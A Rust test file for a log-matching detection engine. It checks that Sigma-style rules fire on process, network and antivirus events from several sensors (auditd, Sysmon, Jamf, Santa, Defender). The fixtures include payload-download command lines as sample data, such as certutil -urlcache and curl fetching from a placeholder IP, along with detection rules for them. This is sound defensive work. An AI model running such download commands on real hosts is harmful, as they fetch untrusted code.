//! Rules that name a category and a system meet the events of every product that says the same.

use std::collections::BTreeSet;

use noroshi_tests::alerts;
use noroshi_tests::process::{run, told};
use noroshi_tests::work_dir::WorkDir;

const NOROSHI: &str = env!("CARGO_BIN_EXE_noroshi");

fn rule(id: &str, logsource: &str, selection: &str) -> String {
    format!(
        "title: {id}\nid: {id}\nlogsource: {{{logsource}}}\ndetection:\n    selection: {{{selection}}}\n    condition: selection\nlevel: high\n"
    )
}

/// Which rules the lines of one file hit.
#[track_caller]
fn check(lines: &str, expected: &[&str]) {
    let dir = WorkDir::default();
    let fetch = "CommandLine|contains: 'http://', Image|endswith: ";
    for (id, logsource, selection) in [
        ("windows", "product: windows, category: process_creation", format!("{fetch}'\\certutil.exe'")),
        ("linux", "product: linux, category: process_creation", format!("{fetch}'/curl'")),
        ("macos", "product: macos, category: process_creation", format!("{fetch}'/curl'")),
        ("auditd", "product: linux, service: auditd", "type: EXECVE, a0: curl".to_owned()),
        (
            "antivirus",
            "category: antivirus",
            "Signature|startswith: 'HackTool', Filename|contains: '\\Users\\'".to_owned(),
        ),
        ("connection", "product: windows, category: network_connection", "DestinationIp: 203.0.113.9".to_owned()),
    ] {
        dir.write(&format!("rules/{id}.yml"), rule(id, logsource, &selection));
    }
    dir.write("events.log", lines);
    let output = run(NOROSHI, dir.path(), &["match", "--rules", "rules", "--", "events.log"], b"");
    let hits = alerts::parse(&String::from_utf8_lossy(&output.stdout));
    let found: BTreeSet<&str> = hits.iter().filter_map(|hit| hit["rule"]["id"].as_str()).collect();
    assert_eq!(found, BTreeSet::from_iter(expected.iter().copied()), "{lines}\n{}", told(&output));
}

#[test]
fn a_program_started_on_linux_is_one_whoever_tells() {
    check(
        concat!(
            "type=SYSCALL msg=audit(1767261600.125:901): arch=c000003e syscall=59 success=yes exit=0 ppid=700 pid=701 auid=1000 uid=0 \
             comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\n",
            "type=EXECVE msg=audit(1767261600.125:901): argc=2 a0=\"curl\" a1=\"http://203.0.113.9/a\"\n",
            "type=CWD msg=audit(1767261600.125:901): cwd=\"/root\"\n",
            "type=PROCTITLE msg=audit(1767261600.125:901): proctitle=\"curl\"\n",
        ),
        &["linux", "auditd"],
    );
    // What failed started nothing.
    check(
        "type=SYSCALL msg=audit(1767261600.125:902): arch=c000003e syscall=59 success=no exit=-2 pid=7 comm=\"sh\" exe=\"/usr/bin/curl\"\n\
         type=EXECVE msg=audit(1767261600.125:902): argc=2 a0=\"curl\" a1=\"http://203.0.113.9/a\"\n",
        &["auditd"],
    );
    check(
        "<13>Mar  2 10:00:00 web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>\
         <EventID>1</EventID><TimeCreated SystemTime=\"2026-03-02T10:00:00.000000000Z\"/><Channel>Linux-Sysmon/Operational</Channel>\
         <Computer>web1</Computer></System><EventData><Data Name=\"Image\">/usr/bin/curl</Data>\
         <Data Name=\"CommandLine\">curl http://203.0.113.9/a</Data></EventData></Event>\n",
        &["linux"],
    );
    check(
        "{\"event_simpleName\":\"ProcessRollup2\",\"aid\":\"a1\",\"event_platform\":\"Lin\",\"ImageFileName\":\"/usr/bin/curl\",\
         \"CommandLine\":\"curl http://203.0.113.9/a\"}\n",
        &["linux"],
    );
}

#[test]
fn sensors_answer_for_the_system_they_watch() {
    check(
        "{\"event_simpleName\":\"ProcessRollup2\",\"aid\":\"a1\",\"event_platform\":\"Win\",\
         \"ImageFileName\":\"\\\\Device\\\\HarddiskVolume2\\\\Windows\\\\System32\\\\certutil.exe\",\
         \"CommandLine\":\"certutil -urlcache -f http://203.0.113.9/a a.exe\"}\n",
        &["windows"],
    );
    check(
        "{\"event_simpleName\":\"NetworkConnectIP4\",\"aid\":\"a1\",\"event_platform\":\"Win\",\"RemoteAddressIP4\":\"203.0.113.9\"}\n",
        &["connection"],
    );
    check(
        "{\"metadata\":{\"vendor\":\"Jamf\"},\"event_type\":\"9\",\"host\":{\"provisioningUDID\":\"u1\",\"hostname\":\"mac1\"},\
         \"time\":\"2026-03-02T10:00:00Z\",\"event\":{\"exec\":{\"args\":[\"curl\",\"http://203.0.113.9/a\"],\
         \"target\":{\"executable\":{\"path\":\"/usr/bin/curl\"}}}}}\n",
        &["macos"],
    );
    check(
        "[2026-03-02T08:00:00.123Z] I santad: action=EXEC|decision=ALLOW|pid=7|ppid=1|path=/usr/bin/curl|args=curl http://203.0.113.9/a\n",
        &["macos"],
    );
}

#[test]
fn a_threat_found_is_one_whoever_found_it() {
    check(
        "{\"@timestamp\":\"2026-03-02T10:00:00Z\",\"winlog\":{\"channel\":\"Microsoft-Windows-Windows Defender/Operational\",\
         \"provider_name\":\"Microsoft-Windows-Windows Defender\",\"event_id\":1116,\"computer_name\":\"ws1\",\
         \"event_data\":{\"Threat Name\":\"HackTool:Win32/Example\",\"Path\":\"file:_C:\\\\Users\\\\ann\\\\a.exe\"}}}\n",
        &["antivirus"],
    );
}
